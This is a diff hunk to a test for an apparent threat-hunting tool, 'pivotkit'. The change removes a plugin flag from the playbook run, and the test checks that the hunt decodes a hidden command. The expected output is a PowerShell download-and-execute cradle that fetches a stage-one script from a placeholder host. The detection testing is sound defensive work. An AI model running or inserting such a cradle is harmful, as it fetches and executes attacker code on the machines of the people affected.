@@ -5,7 +5,7 @@ test(
   'the hunt finds the encoded command and the rhythm of the sample week, and asks nobody',
   { timeout: 60_000 },
   async () => {
-    const { code, out, err } = await pivotkit(['--plugin', 'standard', 'run', 'examples/playbooks/hunt.yaml']);
+    const { code, out, err } = await pivotkit(['run', 'examples/playbooks/hunt.yaml']);
     expect(code).toBe(0);
     expect(out + err).toContain(
       "IEX (New-Object Net.WebClient).DownloadString('http://updates.cdn-telemetry.example.org/a/stage1.ps1')",
